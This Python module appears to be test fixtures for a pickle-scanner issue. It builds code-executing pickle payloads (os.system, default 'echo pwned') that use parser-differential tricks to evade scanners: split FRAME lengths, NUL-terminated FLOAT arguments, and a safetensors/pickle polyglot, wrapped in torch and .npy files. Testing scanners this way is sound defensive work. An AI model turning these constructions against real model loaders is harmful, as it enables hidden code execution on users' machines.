"""Inputs of the issue's families, built from what the real parsers do (see test_oracle)."""

from __future__ import annotations

import io
import struct
import zipfile

import numpy as np

__all__ = [
    "float_nul_pickle",
    "frame_split_pickle",
    "npy_object",
    "safetensors_polyglot",
    "torch_zip",
]


def _call(module: str, name: str, arg: str) -> bytes:
    def s(text: str) -> bytes:
        raw = text.encode()
        return b"\x8c" + bytes([len(raw)]) + raw

    return s(module) + s(name) + b"\x93" + s(arg) + b"\x85R"


def frame_split_pickle(module: str = "os", name: str = "system", arg: str = "echo pwned") -> bytes:
    """A FRAME that ends after 2 of BINBYTES's 4 length bytes.

    ``_pickle.c`` reading a file (torch.load's BytesIO) drops those 2 bytes and takes the
    length from the 4 bytes after the frame (1): a 1-byte string, then the call. Read as
    bytes, the length is 0x10005 and the call is inside a string: a harmless pickle.
    """
    inner = b"\x8c\x05hello\x94B\x05\x00"
    after = b"\x01\x00\x00\x00" + b"X" + _call(module, name, arg) + b"."
    pad = 0x10005 - (len(after) - 2)
    frame = b"\x95" + struct.pack("<Q", len(inner)) + inner
    return b"\x80\x04" + frame + after + b"\0" * pad + b"."


def float_nul_pickle(module: str = "os", name: str = "system", arg: str = "echo pwned") -> bytes:
    """FLOAT whose argument ends in NUL: ``_pickle.c`` reads up to the NUL, Python's
    ``float()`` rejects it."""
    return b"\x80\x04F1.0\x00\n0" + _call(module, name, arg) + b"."


def torch_zip(data_pkl: bytes, *, compress: bool = False) -> bytes:
    """A torch zip checkpoint whose data.pkl is ``data_pkl``."""
    buf = io.BytesIO()
    method = zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED
    with zipfile.ZipFile(buf, "w", method) as zf:
        zf.writestr("archive/data.pkl", data_pkl)
        zf.writestr("archive/byteorder", b"little")
        zf.writestr("archive/version", b"3\n")
    return buf.getvalue()


def npy_object(pickle_bytes: bytes) -> bytes:
    """An .npy object array whose pickle is ``pickle_bytes``."""
    buf = io.BytesIO()
    np.save(buf, np.array([None, 1], dtype=object), allow_pickle=True)
    raw = buf.getvalue()
    header_len = struct.unpack_from("<H", raw, 8)[0]
    return raw[: 10 + header_len] + pickle_bytes


def safetensors_polyglot(module: str = "os", name: str = "system",
                         arg: str = "echo pwned") -> bytes:
    """A valid safetensors file that is also a pickle.

    The header length 0x3146 is the bytes ``F1\\0\\0...``: FLOAT, whose argument ``1``
    ends at a NUL, read up to the newline that ends the (space-padded) JSON header. The
    tensor data that follows is the rest of the pickle: POP, then the call.
    """
    payload = b"0" + _call(module, name, arg) + b"."
    header_len = 0x3146
    body = (b'{"t":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}'
            % (len(payload), len(payload)))
    body += b" " * (header_len - len(body) - 1) + b"\n"
    return struct.pack("<Q", header_len) + body + payload
